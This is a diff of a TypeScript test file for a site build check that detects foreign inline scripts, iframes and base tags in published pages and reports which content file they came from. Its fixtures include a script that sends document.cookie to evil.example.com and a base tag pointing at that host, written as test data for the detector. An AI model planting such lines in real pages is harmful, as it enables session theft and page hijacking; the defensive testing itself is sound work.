@@ -1,15 +1,16 @@
-import { foreignMarkup, unsoldSentence } from "../../../../src/build/publish/inline-scripts"
+import { foreignMarkup, foreignSentence } from "../../../../src/build/publish/inline-scripts"
 
 const own = "start()"
+const style = "a{color:red}"
 const page = (inside: string) => `<!doctype html><html><body>${inside}</body></html>`
 
-test("the site's own scripts, data and links are no fault", () => {
+test("the site's own scripts, styles, data and links are no fault", () => {
   const html = page(
-    `<script data-page="/">${own}</script><script src="/app.js"></script>` +
+    `<style>${style}</style><script data-page="/">${own}</script><script src="/app.js"></script>` +
       `<script type="application/ld+json">{"name":"x"}</script>` +
       `<a href="https://www.example.com" data-once="1">Online</a> onclick=alert(1) javascript:`,
   )
-  expect(foreignMarkup(html, [own])).toEqual([])
+  expect(foreignMarkup(html, [own, style])).toEqual([])
 })
 
 test.each([
@@ -34,7 +35,7 @@ test.each([
   [`<iframe src="/"></iframe>`, "the element <iframe>"],
   [`<base href="https://evil.example.com/">`, "the element <base>"],
 ])("%s is found", (inside, what) => {
-  expect(foreignMarkup(page(inside), [own]).map((each) => each.what)).toContain(what)
+  expect(foreignMarkup(page(inside), [own, style]).map((each) => each.what)).toContain(what)
 })
 
 test("the sentence names the page, the beginning of the text, and the file it was written in", () => {
@@ -43,14 +44,14 @@ test("the sentence names the page, the beginning of the text, and the file it wa
     { path: "site/home.json", text: "{}" },
     { path: "products/plank.json", text: JSON.stringify({ summary: `<script>${text}</script>` }) },
   ]
-  expect(unsoldSentence("/plank", { what: "an inline script", text }, content)).toBe(
+  expect(foreignSentence("/plank", { what: "an inline script", text }, content)).toBe(
     'The page /plank holds an inline script that is not one of the site\'s own: fetch("https://evil.example.com/?" + document.cookie). It comes from content/products/plank.json: delete it there.',
   )
 })
 
 test("where no file of the content holds it, the sentence leaves that out", () => {
   const found = { what: "an inline script", text: "x()" }
-  expect(unsoldSentence("/", found, [])).toBe(
+  expect(foreignSentence("/", found, [])).toBe(
     "The page / holds an inline script that is not one of the site's own: x().",
   )
 })
